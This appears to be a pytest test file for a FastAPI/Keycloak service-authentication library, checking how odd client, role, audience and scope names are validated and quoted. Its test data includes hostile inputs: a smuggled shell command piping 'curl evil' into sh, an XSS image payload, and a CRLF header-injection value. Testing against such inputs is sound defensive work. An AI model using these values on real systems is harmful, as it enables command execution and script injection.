"""One rule for names, and what becomes of odd ones wherever they go: nobody is let in by them, and no text is broken by them."""

import logging
from collections.abc import Callable
from typing import Annotated, Any

import pytest
from fastapi import Depends, FastAPI
from fastapi.testclient import TestClient

from s2s_fastapi import (
    AuthorizationError,
    ConfigurationError,
    KeycloakSettings,
    Principal,
    ServiceAuthMiddleware,
    ServiceTokenAuth,
    TokenVerifier,
    require_audience,
    require_caller,
    require_realm_role,
    require_role,
    require_scope,
    require_user,
    service_client,
)
from s2s_fastapi.caller.granted import granted
from s2s_fastapi.caller.wanted import Wanted
from s2s_fastapi.errors import AudienceNotGranted
from s2s_fastapi.keycloak.cures import shown
from s2s_fastapi.text import listed, named
from tests.caller.fakes import jwt
from tests.kit.realm import Realm, settings, token_verifier

ODD = [
    "Ticket Writer",
    "a, b",
    'say "hi"',
    "it's",
    "C:\\new",
    "Müller & Söhne",
    "\N{HEBREW LETTER ALEF}\N{HEBREW LETTER BET}",
    "x; curl evil|sh",
    "${HOME} {client} %s",
    "<img src=x onerror=alert(1)>",
    "a" * 255,
]
NO_NAMES = {
    "": "it is empty",
    " ": "it has a blank at one end",
    " a": "it has a blank at one end",
    "a ": "it has a blank at one end",
    "a\tb": "it has the character U+0009",
    "a\n": "it has the character U+000A",
    "a\r\nX-Y: b": "it has the character U+000D",
    "a\0": "it has the character U+0000",
    "a\x7f": "it has the character U+007F",
    "a\x85b": "it has the character U+0085",
    "a\N{NO-BREAK SPACE}b": "it has the character U+00A0",
    "a\N{LINE SEPARATOR}b": "it has the character U+2028",
    "a\N{PARAGRAPH SEPARATOR}b": "it has the character U+2029",
    "\N{RIGHT-TO-LEFT OVERRIDE}a": "it has the character U+202E",
    "a\N{RIGHT-TO-LEFT MARK}": "it has the character U+200F",
    "a\N{ZERO WIDTH SPACE}b": "it has the character U+200B",
    "\N{ZERO WIDTH NO-BREAK SPACE}a": "it has the character U+FEFF",
    "a\ud800": "it has the character U+D800",
    "a" * 256: "it is longer than 255 characters",
}
TAKING: dict[str, Callable[[str], object]] = {
    "require_caller": require_caller,
    "require_user": require_user,
    "require_role": require_role,
    "require_role client": lambda name: require_role("x", client=name),
    "require_realm_role": require_realm_role,
    "require_audience": require_audience,
    "ServiceTokenAuth audience": lambda name: ServiceTokenAuth("http://a:8000", audience=name),
    "service_client audience": lambda name: service_client("http://a:8000", audience=[name]),
    "asking audience": lambda name: ServiceTokenAuth("http://a:8000").asking(audience=name, origins=["http://b:8000"]),
    "TokenVerifier audience": lambda name: TokenVerifier(settings(), audience=name),
    "settings client_id": lambda name: settings(client_id=name),
}
SCOPES: dict[str, Callable[[str], object]] = {
    "require_scope": require_scope,
    "ServiceTokenAuth scope": lambda name: ServiceTokenAuth("http://a:8000", scope=name),
    "service_client scope": lambda name: service_client("http://a:8000", scope=[name]),
}


@pytest.mark.parametrize("taking", TAKING.values(), ids=TAKING)
@pytest.mark.parametrize("name", ODD)
def test_a_name_is_any_printable_text(taking: Callable[[str], object], name: str) -> None:
    assert taking(name) is not None


@pytest.mark.parametrize("taking", [*TAKING.values(), *SCOPES.values()], ids=[*TAKING, *SCOPES])
@pytest.mark.parametrize("name", NO_NAMES)
def test_what_is_no_name_is_refused_when_it_is_written(taking: Callable[[str], object], name: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        taking(name)
    assert str(caught.value).isprintable()


@pytest.mark.parametrize(("name", "why"), NO_NAMES.items())
def test_the_sentence_says_what_is_wrong_with_the_name(name: str, why: str) -> None:
    for what, taking in (("require_caller", require_caller), ("audience=", ServiceTokenAuth)):
        with pytest.raises(ConfigurationError) as caught:
            taking(name) if what == "require_caller" else ServiceTokenAuth("http://a:8000", audience=name)
        assert str(caught.value).startswith(what)
        assert f"is not a name: {why}" in str(caught.value)
        assert len(str(caught.value)) < 200


@pytest.mark.parametrize("taking", SCOPES.values(), ids=SCOPES)
def test_only_a_scope_cannot_hold_a_space_which_separates_scopes(taking: Callable[[str], object]) -> None:
    with pytest.raises(ConfigurationError, match="it has a space in it, which separates scopes"):
        taking("Ticket Writer")
    assert taking("tickets:*") is not None


@pytest.mark.parametrize("names", [(), [], {"a": 1}, b"a", 7, [None], [["a"]], ("a", "")], ids=repr)
def test_an_audience_of_a_receiver_is_read_like_one_of_a_caller(names: Any) -> None:
    with pytest.raises(ConfigurationError, match="audience="):
        TokenVerifier(settings(), audience=names)
    with pytest.raises(ConfigurationError, match="audience="):
        ServiceTokenAuth("http://a:8000", audience=names)


@pytest.mark.parametrize("name", ODD)
def test_an_odd_name_meets_itself_and_nothing_that_looks_like_it(name: str) -> None:
    realm = Realm()
    verifier = token_verifier(realm, given=settings(client_id=name))
    claims: dict[str, Any] = {"aud": name, "azp": name, "client_id": name, "realm_access": {"roles": [name]}}
    claims["resource_access"] = {name: {"roles": [name]}}
    principal = verifier.verify(realm.token(**claims))

    for requirement in (
        require_caller(name),
        require_role(name, client=name),
        require_realm_role(name),
        require_audience(name, only=True),
    ):
        requirement.check(principal)
    for other in (f"{name[:-1]}.", f"z{name[1:]}", f"{name[:-1]}Z"):
        with pytest.raises(AuthorizationError):
            require_caller(other).check(principal)
        with pytest.raises(AuthorizationError):
            require_realm_role(other).check(principal)


def test_a_name_with_a_comma_or_a_space_is_never_several() -> None:
    realm = Realm()
    principal = token_verifier(realm).verify(realm.token(realm_access={"roles": ["a", "b"]}, azp="a", client_id="a"))
    for name in ("a, b", "a b", "a,b"):
        with pytest.raises(AuthorizationError):
            require_realm_role(name).check(principal)
        with pytest.raises(AuthorizationError):
            require_caller(name).check(principal)
    assert ServiceTokenAuth("http://a:8000", audience="a b") != ServiceTokenAuth("http://a:8000", audience=["a", "b"])
    assert Wanted.of("a, b", None) != Wanted.of(["a", "b"], None)
    assert hash(require_caller("a b")) != hash(require_caller("a", "b"))


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("crm-api-gateway", "crm-api-gateway"),
        ("https://crm.example.com/api?x=1", "https://crm.example.com/api?x=1"),
        ("/auth", "/auth"),
        ("a", "a"),
        ("", '""'),
        ("Ticket Writer", '"Ticket Writer"'),
        ("a,b", '"a,b"'),
        ("a:", '"a:"'),
        ('say "hi"', '"say \\"hi\\""'),
        ("back\\slash", '"back\\\\slash"'),
        ("é", '"é"'),
        ("\N{HANGUL FILLER}", '"\N{HANGUL FILLER}"'),
        ("a\nb\N{RIGHT-TO-LEFT OVERRIDE}", '"a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}"'),
        ("billing called: add it", '"billing called: add it"'),
    ],
)
def test_a_name_in_a_sentence_is_one_plain_word_or_stands_in_quotes(name: str, said: str) -> None:
    assert named(name) == said


def test_a_list_of_names_can_be_read_in_one_way_only() -> None:
    assert listed(["b", "a"]) == "a, b"
    assert listed(["a, b"]) == '"a, b"'
    assert listed(["a b", "c"], " ") == '"a b" c'
    for sign in ("x", '"', "\\", "é", "\n"):
        for length in (255, 256, 10_000):
            assert len(named(sign * length)) <= 256
            assert named(sign * length).isprintable()
    assert shown("Ticket Writer") == "Ticket Writer"  # a field of its own needs no quotes


@pytest.mark.parametrize("name", ODD)
def test_a_refusal_says_an_odd_name_in_quotes_and_its_challenge_is_one_line_of_ascii(
    name: str, caplog: pytest.LogCaptureFixture
) -> None:
    realm = Realm()
    app = FastAPI()
    app.add_middleware(ServiceAuthMiddleware, settings=settings(client_id=name), transport=realm.transport)

    @app.get("/caller", dependencies=[Depends(require_caller(name))])
    @app.get("/role", dependencies=[Depends(require_role(name))])
    @app.get("/realm-role", dependencies=[Depends(require_realm_role(name))])
    async def route() -> None: ...

    with TestClient(app) as client, caplog.at_level(logging.WARNING, "s2s_fastapi.decisions"):
        for path in ("/caller", "/role", "/realm-role"):
            answer = client.get(path, headers={"Authorization": f"Bearer {realm.token(aud=name)}"})
            assert answer.status_code == 403
            told = answer.headers["WWW-Authenticate"]
            assert told.isascii()
            assert told.isprintable()
            # A name that a quoted parameter cannot hold is left out.
            quotable = name.isascii() and name.isprintable() and not set('"\\') & set(name)
            said = f'realm="{name}", ' if quotable else ""
            assert told == f'Bearer {said}error="insufficient_scope"'
            assert name == "it's" or name not in answer.text
        answer = client.get("/caller", headers={"Authorization": f"Bearer {realm.token(aud='other')}"})
        document = client.get(
            "/openapi.json",
            headers={"Authorization": f"Bearer {realm.token(aud=name, azp=name, client_id=name)}"},
        ).json()
    assert answer.status_code == 401
    for record in caplog.records:
        cure = str(vars(record)["cure"])
        assert named(name) in cure
        assert cure.isprintable()
        assert "\n" not in record.getMessage()
    note = document["paths"]["/caller"]["get"]["x-service-auth"]
    assert note == [f"service {named(name)}, token for {named(name)}"]
    assert f"role {named(name)} of {named(name)}" in document["paths"]["/role"]["get"]["x-service-auth"][0]


def test_a_scope_that_a_challenge_cannot_say_is_left_out_and_not_spelled_otherwise() -> None:
    realm = Realm()
    principal = token_verifier(realm).verify(realm.token())
    with pytest.raises(AuthorizationError) as caught:
        require_scope('say"hi"', "café", "write").check(principal)
    assert caught.value.challenge == 'Bearer error="insufficient_scope", scope="write"'
    with pytest.raises(AuthorizationError) as caught:
        require_scope("café").check(principal)
    assert caught.value.challenge == 'Bearer error="insufficient_scope"'


def test_a_token_that_is_not_for_an_odd_audience_is_reported_with_its_name_in_quotes() -> None:
    for client_id in ("Shop UI", "shop-api"):
        with pytest.raises(AudienceNotGranted) as caught:
            granted(
                {"access_token": jwt(aud="a, b", azp=client_id), "token_type": "Bearer", "expires_in": 60},
                Wanted.of(["Ticket Desk", "crm"], None),
                client_id=client_id,
            )
        sentence = str(caught.value)
        assert f'token of {named(client_id)} has aud ["a, b"], expected "Ticket Desk" and crm' in sentence
        assert (
            f'an Audience mapper for "Ticket Desk" and crm, (D) that scope assigned to {named(client_id)}' in sentence
        )


def test_names_that_a_route_can_never_match_are_recognised_at_startup() -> None:
    app = FastAPI()
    app.add_middleware(ServiceAuthMiddleware, settings=settings(), transport=Realm().transport)

    @app.get("/")
    async def route(
        caller: Annotated[Principal, Depends(require_caller("a, b") & require_caller("a", "b"))],
    ) -> None: ...

    with pytest.raises(ConfigurationError, match=r'no one is in all of \["a, b"\], \[a, b\]'), TestClient(app):
        pass


def test_a_realm_is_a_name_of_one_segment_of_a_path() -> None:
    assert KeycloakSettings(url="http://keycloak.test", realm="it's a realm").realm == "it's a realm"
    for realm in (*NO_NAMES, "a/b"):
        with pytest.raises(ConfigurationError, match="KEYCLOAK_REALM"):
            KeycloakSettings(url="http://keycloak.test", realm=realm)
